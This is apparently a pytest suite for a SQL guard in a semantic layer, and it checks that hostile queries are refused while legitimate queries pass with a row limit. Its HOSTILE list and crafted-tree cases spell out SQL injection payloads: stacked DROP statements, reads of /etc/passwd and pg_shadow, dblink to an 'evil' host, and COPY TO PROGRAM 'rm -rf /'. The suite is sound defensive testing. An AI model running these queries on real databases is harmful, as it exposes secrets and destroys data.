"""The SQL guard: a list of hostile inputs, each refused; legitimate queries accepted and limited."""

from __future__ import annotations

import pytest
import sqlglot
from sqlglot import exp

from semantic_layer.guard import GuardError, guard_ast, guard_sql
from semantic_layer.tables import CONTRACT_TABLES

DIALECTS = ["duckdb", "postgres"]

HOSTILE: list[str] = [
    # empty / not a query
    "",
    "   ",
    "-- just a comment",
    # DDL
    "CREATE TABLE x (i INT)",
    "create table x as select * from fact_sales",
    "DROP TABLE fact_sales",
    "ALTER TABLE fact_sales ADD COLUMN x INT",
    "TRUNCATE fact_sales",
    "CREATE VIEW v AS SELECT * FROM fact_sales",
    "CREATE MACRO m(x) AS x + 1",
    "CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')",
    # DML
    "INSERT INTO fact_sales SELECT * FROM fact_sales",
    "UPDATE dim_sku SET unit_cost = 0",
    "DELETE FROM fact_sales",
    "MERGE INTO dim_sku USING dim_sku AS s ON TRUE WHEN MATCHED THEN DELETE",
    # stacked statements
    "SELECT 1 FROM dim_sku; DROP TABLE fact_sales",
    "SELECT 1 FROM dim_sku; SELECT 2 FROM dim_sku",
    "SELECT 1 FROM dim_sku;DELETE FROM fact_sales;",
    # comments hiding statements
    "SELECT 1 FROM dim_sku /* */; DROP TABLE fact_sales --",
    "SELECT 1 FROM dim_sku --\n; DROP TABLE fact_sales",
    "/* SELECT 1 FROM dim_sku */ DROP TABLE fact_sales",
    "SELECT 1 FROM dim_sku /*! ; DROP TABLE fact_sales */; DELETE FROM dim_sku",
    # file- and network-reading functions
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('/etc/passwd')",
    "SELECT * FROM READ_PARQUET('s3://bucket/x.parquet')",
    "SELECT * FROM read_json('http://example.com/x.json')",
    "SELECT * FROM read_json_auto('/tmp/x.json')",
    "SELECT read_text('/etc/passwd')",
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/etc/passwd')",
    "SELECT * FROM glob('/home/*')",
    "SELECT * FROM parquet_scan('x.parquet')",
    "SELECT * FROM sniff_csv('/etc/passwd')",
    "SELECT * FROM '/etc/passwd'",
    "SELECT * FROM 'https://example.com/data.csv'",
    "SELECT * FROM \"data.parquet\"",
    "SELECT * FROM fact_sales, read_csv('/etc/passwd')",
    "SELECT * FROM fact_sales WHERE sku_id IN (SELECT * FROM read_csv('/etc/passwd'))",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('.')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT * FROM dblink('host=evil', 'select 1') AS t(i int)",
    "SELECT dblink_exec('host=evil', 'drop table x')",
    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    'SELECT "pg_read_file"(\'/etc/passwd\')',
    "SELECT * FROM \"DUCKDB_SETTINGS\"()",
    "SELECT * FROM TABLE(read_csv('x'))",
    "SELECT * FROM ROWS FROM (pg_ls_dir('.'))",
    "SELECT 1 FROM fact_sales AS t(a), LATERAL read_csv(t.a)",
    "SELECT * FROM fact_sales POSITIONAL JOIN duckdb_settings()",
    # relations hidden inside allowed table functions and subqueries
    "SELECT * FROM unnest((SELECT array_agg(usename) FROM pg_user))",
    "SELECT * FROM generate_series(1, (SELECT count(*) FROM pg_user))",
    "SELECT 1 FROM fact_sales WHERE sku_id = ANY(SELECT usename FROM pg_user)",
    "SELECT * FROM fact_sales ASOF JOIN pg_user ON TRUE",
    "SELECT * FROM (SHOW TABLES)",
    "SELECT * FROM (DESCRIBE fact_sales)",
    "SELECT * FROM (SUMMARIZE fact_sales)",
    "SELECT * FROM main.pg_user",
    # SQL executed from a string: bypasses every check
    "SELECT * FROM query('DROP TABLE fact_sales')",
    "SELECT * FROM query_table('fact_sales')",
    "SELECT query_to_xml('select * from pg_user', true, true, '')",
    # settings, session state, sequences, sleeps
    "SELECT set_config('statement_timeout', '0', false)",
    "SELECT current_setting('data_directory')",
    "SELECT getvariable('x')",
    "SELECT nextval('seq')",
    "SELECT pg_sleep(100)",
    "SELECT pg_terminate_backend(1)",
    # statements that are not queries
    "ATTACH '/tmp/evil.duckdb' AS evil",
    "ATTACH 'postgres:dbname=x' AS p (TYPE postgres)",
    "DETACH evil",
    "PRAGMA table_info('fact_sales')",
    "PRAGMA enable_external_access=true",
    "SET enable_external_access = true",
    "SET statement_timeout = 0",
    "RESET statement_timeout",
    "INSTALL httpfs",
    "LOAD httpfs",
    "FORCE INSTALL httpfs FROM 'http://evil'",
    "COPY fact_sales TO '/tmp/out.csv'",
    "COPY fact_sales FROM '/tmp/in.csv'",
    "COPY (SELECT * FROM fact_sales) TO PROGRAM 'rm -rf /'",
    "CALL pragma_version()",
    "EXPORT DATABASE '/tmp/x'",
    "IMPORT DATABASE '/tmp/x'",
    "USE evil",
    "BEGIN",
    "COMMIT",
    "CHECKPOINT",
    "VACUUM",
    "DESCRIBE fact_sales",
    "SHOW TABLES",
    "SUMMARIZE fact_sales",
    "EXPLAIN ANALYZE SELECT * FROM fact_sales",
    "GRANT ALL ON fact_sales TO PUBLIC",
    "DO $$ BEGIN PERFORM 1; END $$",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "LISTEN x",
    # system catalogs
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM INFORMATION_SCHEMA.COLUMNS",
    "SELECT * FROM pg_catalog.pg_user",
    "SELECT * FROM pg_user",
    "SELECT * FROM pg_shadow",
    "SELECT * FROM pg_settings",
    "SELECT * FROM duckdb_tables()",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_tables",
    "SELECT * FROM system.main.duckdb_tables",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM pragma_table_info('fact_sales')",
    "SELECT * FROM pragma_database_list",
    "SELECT * FROM evil.main.fact_sales",
    "SELECT * FROM other.fact_sales",
    "SELECT * FROM temp.fact_sales",
    "SELECT (SELECT count(*) FROM pg_catalog.pg_class) FROM fact_sales",
    # CTEs that smuggle DML or other relations
    "WITH x AS (DELETE FROM fact_sales RETURNING *) SELECT * FROM x",
    "WITH x AS (INSERT INTO dim_sku SELECT * FROM dim_sku RETURNING *) SELECT 1",
    "WITH x AS (UPDATE dim_sku SET unit_cost = 0 RETURNING *) SELECT * FROM x",
    "WITH x AS (SELECT * FROM pg_user) SELECT * FROM x",
    # a CTE name used outside its scope resolves to the real relation
    "SELECT * FROM (WITH pg_user AS (SELECT 1 AS a) SELECT * FROM pg_user) AS s, pg_user",
    "WITH a AS (SELECT * FROM pg_user), pg_user AS (SELECT 1 AS x) SELECT * FROM a",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
    # SELECT INTO / locking reads
    "SELECT * INTO stolen FROM fact_sales",
    "SELECT * FROM fact_sales FOR UPDATE",
    "SELECT * FROM fact_sales FOR SHARE",
    # unknown tables, case and quoting tricks
    "SELECT * FROM secrets",
    "SELECT * FROM fact_sales_backup",
    "SELECT * FROM \"fact_sales; DROP TABLE x\"",
    "SELECT * FROM `fact_sales`; DROP TABLE x",
    "sElEcT * FrOm InFoRmAtIoN_sChEmA.tAbLeS",
    "SELECT * FROM \"information_schema\".\"tables\"",
    "SELECT * FROM \"PG_CATALOG\".pg_user",
    "SELECT * FROM fact_sales WHERE 1 = (SELECT 1 FROM \"pg_user\")",
    "SELECT * FROM fact_sales UNION ALL SELECT * FROM pg_user",
    "SELECT * FROM fact_sales JOIN pg_user ON TRUE",
    "SELECT * FROM fact_sales, LATERAL (SELECT * FROM pg_user) AS x",
    # unicode tricks: zero-width characters, bidi overrides, NUL, look-alike letters, full-width
    "SELECT * FROM dim\u200b_sku",
    "SELECT * FROM fact_sales\u202e; DROP TABLE x",
    "SELECT * FROM fact_sales\x00; DROP TABLE x",
    "SELECT * FROM fact_sale\u0455",  # Cyrillic dze looks like s
    "SELECT * FROM ｆａｃｔ_ｓａｌｅｓ",
    "SELECT 1 FROM dim_sku\ufeff",
    "SELECT 1 FROM dim_sku\u2028; DROP TABLE x",
    "SELECT 1 FROM dim_sku；DROP TABLE fact_sales",  # full-width semicolon
    # parameters and garbage
    "SELECT $1 FROM dim_sku",
    "SELECT * FROM dim_sku WHERE sku_id = ?",
    "SELECT * FROM",
    "SELECT * FROM dim_sku WHERE (",
    "VALUES (1)",
]

LEGIT: list[str] = [
    "SELECT * FROM fact_sales",
    "select sku_id, sum(revenue) as gmv from fact_sales group by 1 order by 2 desc",
    "SELECT * FROM FACT_SALES",
    'SELECT * FROM "fact_sales"',
    "SELECT * FROM main.fact_sales",
    "SELECT * FROM public.fact_sales",
    "WITH s AS (SELECT sku_id, SUM(revenue) AS gmv FROM fact_sales GROUP BY 1) "
    "SELECT d.category, SUM(s.gmv) FROM s JOIN dim_sku AS d ON d.sku_id = s.sku_id GROUP BY 1",
    "WITH a AS (SELECT 1 AS x FROM dim_sku), b AS (SELECT * FROM a) SELECT * FROM b",
    "SELECT * FROM (WITH x AS (SELECT * FROM dim_sku) SELECT * FROM x) AS t",
    "SELECT store_id FROM dim_store UNION SELECT store_id FROM fact_traffic_daily",
    "SELECT sku_id FROM dim_sku WHERE sku_name LIKE '%面膜%'  -- a Chinese literal and a comment",
    "SELECT 'DROP TABLE x; --' AS harmless FROM dim_sku",
    "SELECT d::DATE AS day FROM generate_series(DATE '2024-01-01', DATE '2024-01-31', INTERVAL 1 DAY)"
    " AS g(d)",
    "SELECT COALESCE(SUM(amount), 0) FROM fact_receivable WHERE paid_date IS NULL "
    "OR paid_date > DATE '2024-06-30'",
    "SELECT date_trunc('month', order_date) AS m, COUNT(DISTINCT order_id) FROM fact_sales GROUP BY 1",
    "SELECT sku_id, ROW_NUMBER() OVER (PARTITION BY sku_id ORDER BY snapshot_date) FROM fact_inventory_daily",
    "SELECT CASE WHEN on_hand_qty = 0 THEN 1 ELSE 0 END FROM fact_inventory_daily",
]


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("sql", HOSTILE)
def test_hostile_sql_is_rejected(sql: str, dialect: str) -> None:
    with pytest.raises(GuardError) as info:
        guard_sql(sql, dialect=dialect, allowed_tables=set(CONTRACT_TABLES), row_limit=100)
    message = str(info.value)
    assert message and "\n" not in message


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("sql", LEGIT)
def test_legitimate_sql_is_accepted_and_limited(sql: str, dialect: str) -> None:
    out = guard_sql(sql, dialect=dialect, allowed_tables=set(CONTRACT_TABLES), row_limit=100)
    tree = sqlglot.parse_one(out, read=dialect)
    limit = tree.args["limit"]
    assert isinstance(limit, exp.Limit) and limit.expression.this == "100"
    assert not any(node.comments for node in tree.walk()), "comments are dropped from the text that runs"
    # The guarded text passes the guard again unchanged (idempotent).
    assert guard_sql(out, dialect=dialect, allowed_tables=set(CONTRACT_TABLES), row_limit=100) == out


@pytest.mark.parametrize(
    ("sql", "row_limit", "expected"),
    [
        ("SELECT * FROM dim_sku LIMIT 5", 100, 5),
        ("SELECT * FROM dim_sku LIMIT 500", 100, 100),
        ("SELECT * FROM dim_sku LIMIT 500 OFFSET 10", 100, 100),
        ("SELECT sku_id FROM dim_sku UNION ALL SELECT sku_id FROM sku_alias LIMIT 7", 100, 7),
        ("SELECT * FROM dim_sku FETCH FIRST 3 ROWS ONLY", 100, 3),
    ],
)
def test_existing_limit_is_kept_when_smaller(sql: str, row_limit: int, expected: int) -> None:
    out = guard_sql(sql, dialect="duckdb", allowed_tables=set(CONTRACT_TABLES), row_limit=row_limit)
    assert sqlglot.parse_one(out, read="duckdb").args["limit"].expression.this == str(expected)


@pytest.mark.parametrize(
    ("sql", "dialect"),
    [
        ("SELECT * FROM dim_sku LIMIT (SELECT 10)", "duckdb"),
        ("SELECT * FROM dim_sku LIMIT 10 PERCENT", "duckdb"),
        ("SELECT * FROM dim_sku LIMIT ALL", "postgres"),
        ("SELECT * FROM dim_sku ORDER BY sku_id FETCH FIRST 5 ROWS WITH TIES", "postgres"),
    ],
)
def test_non_literal_limit_is_wrapped(sql: str, dialect: str) -> None:
    out = guard_sql(sql, dialect=dialect, allowed_tables={"dim_sku"}, row_limit=3)
    assert out.endswith("LIMIT 3") and "_guarded" in out


def test_allow_list_is_the_callers() -> None:
    with pytest.raises(GuardError, match="fact_sales"):
        guard_sql("SELECT * FROM fact_sales", dialect="duckdb", allowed_tables={"dim_sku"}, row_limit=10)


def test_row_limit_must_be_positive() -> None:
    with pytest.raises(ValueError):
        guard_sql("SELECT * FROM dim_sku", dialect="duckdb", allowed_tables={"dim_sku"}, row_limit=0)


def test_constructs_a_dialect_cannot_express_are_refused_not_dropped() -> None:
    sql = "SELECT * FROM fact_sales PIVOT (SUM(revenue) FOR store_id IN ('a'))"
    assert "PIVOT" in guard_sql(sql, dialect="duckdb", allowed_tables={"fact_sales"}, row_limit=5)
    with pytest.raises(GuardError, match="postgres"):
        guard_sql(sql, dialect="postgres", allowed_tables={"fact_sales"}, row_limit=5)


# -- the AST path: a query the compiler built is checked without being parsed again ----------------


def _single_trees(sqls: list[str], dialect: str) -> list[exp.Expr]:
    """The hostile texts that parse into exactly one statement, as trees (the others are refused by the
    text path for being several statements, which an AST cannot be)."""
    trees = []
    for sql in sqls:
        try:
            parsed = [t for t in sqlglot.parse(sql, read=dialect) if t is not None]
        except sqlglot.errors.SqlglotError:
            continue
        if len(parsed) == 1:
            trees.append(parsed[0])
    return trees


@pytest.mark.parametrize("dialect", DIALECTS)
def test_the_ast_path_refuses_every_hostile_tree_the_text_path_refuses(dialect: str) -> None:
    trees = _single_trees(HOSTILE, dialect)
    assert len(trees) > 100  # the list above, bar the multi-statement and unparseable texts
    for tree in trees:
        with pytest.raises(GuardError) as info:
            guard_ast(tree, dialect=dialect, allowed_tables=set(CONTRACT_TABLES), row_limit=100)
        assert str(info.value) and "\n" not in str(info.value), tree.sql()


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("sql", LEGIT)
def test_the_ast_path_runs_the_same_text_as_the_text_path(sql: str, dialect: str) -> None:
    tree = sqlglot.parse_one(sql, read=dialect)
    before = tree.sql(dialect=dialect)
    out = guard_ast(tree, dialect=dialect, allowed_tables=set(CONTRACT_TABLES), row_limit=100)
    assert out == guard_sql(sql, dialect=dialect, allowed_tables=set(CONTRACT_TABLES), row_limit=100)
    assert tree.sql(dialect=dialect) == before, "the AST is not modified (compiled queries are shared)"


@pytest.mark.parametrize("dialect", ["duckdb", "postgres"])
def test_compiled_queries_guarded_as_asts_equal_their_reparsed_text(dialect: str) -> None:
    from semantic_layer.compiler import compile_query
    from tests.golden.test_golden_sql import CASES

    for name, (query, principal) in CASES.items():
        compiled = compile_query(query, principal=principal, dialect=dialect)
        by_ast = guard_ast(compiled.ast, dialect=dialect, allowed_tables=set(CONTRACT_TABLES), row_limit=10_001)
        by_text = guard_sql(compiled.sql, dialect=dialect, allowed_tables=set(CONTRACT_TABLES), row_limit=10_001)
        assert by_ast == by_text, name
        with pytest.raises(GuardError, match="not allowed"):  # the allow-list applies to the AST path too
            guard_ast(compiled.ast, dialect=dialect, allowed_tables={"dim_sku"}, row_limit=10)


def _injected_column(text: str) -> exp.Select:
    return exp.select(exp.Column(this=exp.Identifier(this=text))).from_("dim_sku")


CRAFTED: dict[str, exp.Expr] = {
    # relations and statements the allow-lists refuse
    "relation not allowed": exp.select("*").from_("pg_shadow"),
    "catalog-qualified": exp.select("*").from_(exp.to_table("other.main.dim_sku")),
    "insert": exp.insert(exp.select("*").from_("dim_sku"), "dim_sku"),
    "delete": exp.delete("fact_sales"),
    "drop": exp.Drop(this=exp.to_table("fact_sales"), kind="TABLE"),
    "update inside a CTE": exp.select("*").from_("x").with_("x", as_=exp.update("dim_sku", {"unit_cost": 0})),
    "table function": exp.select("*").from_(exp.Table(this=exp.Anonymous(this="read_csv_auto", expressions=[]))),
    "function off the allow-list": exp.select(exp.Anonymous(this="pg_read_file", expressions=[])).from_("dim_sku"),
    "a command": exp.Command(this="COPY", expression=exp.Literal.string("x")),
    # text the generator would write out verbatim
    "identifier with a statement": _injected_column("x FROM dim_sku; DROP TABLE fact_sales"),
    "identifier with a subquery": _injected_column("(SELECT * FROM pg_shadow)"),
    "number with a statement": exp.select(exp.Literal(this="1; DELETE FROM dim_sku", is_string=False)).from_("dim_sku"),
    "variable with a relation": exp.select(exp.Var(this="1 FROM pg_shadow --")).from_("dim_sku"),
    "join side with a statement": exp.select("*").from_("dim_sku").join("dim_store", on="TRUE", join_type="LEFT"),
    # characters and shapes the text path refuses
    "zero-width space in a literal": exp.select(exp.Literal.string("面\u200b膜")).from_("dim_sku"),
    "NUL in a quoted identifier": _injected_column("a").select(exp.column(exp.to_identifier("b\x00", quoted=True))),
    "not a query": exp.to_table("dim_sku"),
}
CRAFTED["join side with a statement"].args["joins"][0].set("side", "LEFT; DROP TABLE fact_sales; --")
#: Why each is refused: the check that must catch it, not just any failure.
REASONS = {
    "relation not allowed": "relation 'pg_shadow' is not allowed",
    "catalog-qualified": "catalog-qualified",
    "insert": "got INSERT",
    "delete": "got DELETE",
    "drop": "got DROP",
    "update inside a CTE": "UPDATE is not allowed",
    "table function": "table function read_csv_auto",
    "function off the allow-list": "pg_read_file.*allow-list",
    "a command": "got COPY",
    "identifier with a statement": "not a plain name",
    "identifier with a subquery": "not a plain name",
    "number with a statement": "not a plain number",
    "variable with a relation": "not a plain name",
    "join side with a statement": "not a plain name",
    "zero-width space in a literal": "U\\+200B",
    "NUL in a quoted identifier": "U\\+0000",
    "not a query": "got TABLE",
}


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("case", sorted(CRAFTED))
def test_crafted_trees_that_parsing_would_never_produce_are_refused(case: str, dialect: str) -> None:
    with pytest.raises(GuardError, match=REASONS[case]):
        guard_ast(CRAFTED[case], dialect=dialect, allowed_tables=set(CONTRACT_TABLES), row_limit=10)


def test_a_part_of_a_query_is_refused_its_ctes_would_not_be_rendered() -> None:
    tree = sqlglot.parse_one("WITH pg_user AS (SELECT sku_id FROM dim_sku) SELECT * FROM (SELECT * FROM pg_user) AS t")
    inner = tree.find(exp.Subquery).this
    with pytest.raises(GuardError, match="whole query"):
        guard_ast(inner, dialect="duckdb", allowed_tables=set(CONTRACT_TABLES), row_limit=10)


def test_a_string_literal_may_hold_quotes_and_semicolons_and_stays_one_statement() -> None:
    tree = exp.select(exp.Literal.string("x'; DROP TABLE fact_sales; --").as_("s")).from_("dim_sku")
    out = guard_ast(tree, dialect="duckdb", allowed_tables=set(CONTRACT_TABLES), row_limit=10)
    assert out == "SELECT 'x''; DROP TABLE fact_sales; --' AS s FROM dim_sku LIMIT 10"
    assert len(sqlglot.parse(out, read="duckdb")) == 1


@pytest.mark.parametrize(
    ("limit", "expected"), [(None, "LIMIT 10"), (5, "LIMIT 5"), (500, "LIMIT 10")], ids=["none", "smaller", "larger"]
)
def test_the_ast_path_limits_rows_without_changing_the_tree(limit: int | None, expected: str) -> None:
    tree = exp.select("sku_id").from_("dim_sku").order_by("sku_id")
    tree = tree.limit(limit) if limit is not None else tree
    before = tree.sql()
    assert guard_ast(tree, dialect="duckdb", allowed_tables={"dim_sku"}, row_limit=10).endswith(expected)
    assert tree.sql() == before
